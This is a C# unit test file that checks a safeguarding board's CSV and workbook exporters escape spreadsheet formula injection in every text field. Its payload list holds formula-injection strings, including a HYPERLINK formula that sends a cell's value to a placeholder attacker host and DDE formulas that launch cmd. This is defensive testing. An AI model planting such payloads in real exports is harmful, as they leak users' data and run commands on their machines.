using Safeguarding.BoardPapers.Papers;
using Safeguarding.BoardPapers.Tests.Support;
using Safeguarding.BoardPapers.Writers;
using Safeguarding.Domain.Access;
using Safeguarding.Domain.BusinessPlans;
using Safeguarding.Domain.Rag;
using Safeguarding.Domain.Reporting;

namespace Safeguarding.BoardPapers.Tests.Writers;

/// <summary>
/// Text that a spreadsheet would run as a formula (OWASP's CSV injection: a cell beginning with =, +, -,
/// @, a tab or a carriage return) is written so that it cannot: put into every text field of a plan,
/// it comes out of the CSV with a single quote in front and out of the workbook as text, never a formula.
/// </summary>
public class SpreadsheetSafetyTests
{
    // The probes' payloads: formulas that run a command, send a cell's value away, or sum, each behind one of OWASP's characters.
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Open\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    public static TheoryData<string> PaperNames() => ["exception-report", "action-plan", "progress-history", "updates-due"];

    [Theory]
    [MemberData(nameof(PaperNames))]
    public void A_formula_in_any_field_is_escaped_in_CSV(string paperName)
    {
        var csv = CsvPaperWriter.WriteToString(PaperOf(paperName));

        foreach (var payload in Payloads)
        {
            var quoted = payload.Replace("\"", "\"\"", StringComparison.Ordinal);
            Assert.Contains("\"'" + quoted, csv, StringComparison.Ordinal);
            Assert.DoesNotContain("\"" + quoted, csv, StringComparison.Ordinal);
            Assert.DoesNotContain("," + quoted, csv, StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(PaperNames))]
    public void A_formula_in_any_field_is_text_with_a_quote_prefix_in_the_workbook(string paperName)
    {
        using var stream = new MemoryStream();
        SpreadsheetPaperWriter.Write(PaperOf(paperName), stream);
        // OfficeReadBack asserts that no cell is a formula.
        var cells = OfficeReadBack.Cells(stream.ToArray());

        foreach (var payload in Payloads)
        {
            // XML reads a carriage return as a line feed, so "\r=1+1" comes back as "\n=1+1": still text with a quote prefix.
            var stored = payload.Replace('\r', '\n');
            Assert.Contains(cells, cell => cell.Value.StartsWith(stored, StringComparison.Ordinal) && cell.QuotePrefix);
        }
        Assert.All(cells.Where(cell => SpreadsheetSafety.CouldRunAsFormula(cell.Value) || cell.Value.StartsWith('\n')), cell =>
        {
            Assert.Equal("text", cell.Type);
            Assert.True(cell.QuotePrefix, $"{cell.Reference} \"{cell.Value}\" has no quote prefix");
        });
    }

    [Fact]
    public void A_negative_number_stays_a_number()
    {
        var paper = ScorecardPaper.Create(SeedPapers.DomesticAbuseScorecard, "domestic-abuse-2015-16");
        using var stream = new MemoryStream();
        SpreadsheetPaperWriter.Write(paper, stream);

        // Women's Aid's children exposed to domestic abuse: 284 in Q1 to 273 in Q4 (seed 003, Appendix 3).
        Assert.Contains(",-11,", CsvPaperWriter.WriteToString(paper), StringComparison.Ordinal);
        Assert.Contains(OfficeReadBack.Cells(stream.ToArray()), cell => cell.Value == "-11" && cell.Type.StartsWith("number", StringComparison.Ordinal) && !cell.QuotePrefix);
    }

    private static BoardPaper PaperOf(string name)
    {
        var plan = PlanFullOfPayloads();
        var asAt = new LocalDate(2014, 11, 30);
        return name switch
        {
            "exception-report" => ExceptionReportPaper.Create(plan, asAt, ExceptionReportMode.AllDue),
            "action-plan" => ActionPlanPaper.Create(plan, asAt),
            "progress-history" => ProgressHistoryPaper.Create(plan, Payloads[0], asAt),
            "updates-due" => UpdatesDuePaper.Create(plan, asAt),
            _ => throw new ArgumentOutOfRangeException(nameof(name), name, "Expected a paper's name."),
        };
    }

    // One action per payload, the payload in its ref, text, steps, lead, progress statement, additional work,
    // impact, reporter and recorder; the first action has an update per payload; a board and plan named with them too.
    private static BusinessPlan PlanFullOfPayloads()
    {
        var actions = Payloads.Select((payload, index) =>
        {
            var action = new PlanAction
            {
                Ref = payload,
                Action = payload,
                Steps = [payload, payload],
                Lead = new ActionLead(payload, payload, payload),
                Timescale = Timescale.Parse("Oct 14"),
                PriorityNumber = "1",
            };
            foreach (var text in index == 0 ? Payloads : [payload])
            {
                action.RecordProgress(new ProgressUpdate
                {
                    AsAt = new LocalDate(2014, 6, 30),
                    Statement = text,
                    AdditionalWork = text,
                    ImpactSoFar = text,
                    ReportedBy = text,
                    RecordedBy = new UpdateAuthor($"user-{index}", text, text, BoardRole.AgencyLead),
                    RecordedAt = Instant.FromUtc(2014, 7, 1, 9, 0),
                    Ratings = [new RecordedRating("completion", true, "A", [BuiltInRagSchemes.Hscb2014.CompletionDimension.Levels.First(level => level.Code == "A")])],
                });
            }
            return action;
        }).ToList();
        return new BusinessPlan
        {
            Key = "payloads",
            Board = new Board { Name = Payloads[0] },
            Title = Payloads[1],
            Period = new DateInterval(new LocalDate(2014, 4, 1), new LocalDate(2015, 3, 31)),
            RagScheme = BuiltInRagSchemes.Hscb2014,
            Priorities = [new Priority { Number = "1", Title = Payloads[2], DirectActions = actions }],
        };
    }
}
